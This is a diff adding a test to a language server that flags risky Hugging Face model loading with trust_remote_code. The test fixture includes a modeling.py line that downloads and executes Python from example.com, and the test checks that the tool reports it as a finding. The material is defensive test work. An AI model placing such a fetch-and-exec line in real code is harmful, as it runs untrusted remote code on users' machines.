@@ -6,6 +6,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { version } from '../../package.json';
+import { hubCache } from '../kit/hub-cache.ts';
 import { CACHED, CLEAN, COMMIT, ServerTests, UNKNOWN, URI } from './lsp-server.ts';
 
 describe('language server', () => {
@@ -170,6 +171,23 @@ describe('language server', () => {
       assert.match(value, /\*\*What to do\.\*\*/);
       assert.match(value, /RULES\.md#unpinned-revision/);
       assert.equal(await server.editor.hover(URI, { line: 1, character: 0 }), null);
+    });
+
+    it('tells what the code of a trusted repository amounts to, read from the cache', async () => {
+      const files = {
+        'config.json': JSON.stringify({ auto_map: { AutoModel: 'modeling.Tiny', AutoConfig: 'acme/code--c.Tiny' } }),
+        'modeling.py':
+          'import requests\nfrom .layers import Layer\n\nexec(requests.get("https://example.com/a.py").text)\n',
+        'layers.py': 'import torch\n',
+      };
+      const cache = hubCache('acme/loud', COMMIT, files);
+      await server.start({ environment: { HF_HUB_CACHE: cache } });
+      const loud = CACHED.replace('acme/tiny"', 'acme/loud", trust_remote_code=True');
+      const [diagnostic] = await server.opened(loud);
+      const { value } = (await server.editor.hover(URI, diagnostic!.range.start))!.contents as { value: string };
+      fs.rmSync(cache, { recursive: true });
+      assert.match(value, /\*\*Its code\.\*\* Runs 2 files, 5 lines; imports requests, torch; 1 finding\./);
+      assert.match(value, /Code of acme\/code runs too\. \(acme\/loud at 0123456, from the local Hugging Face cache\)/);
     });
 
     it('says why there is no pin', async () => {
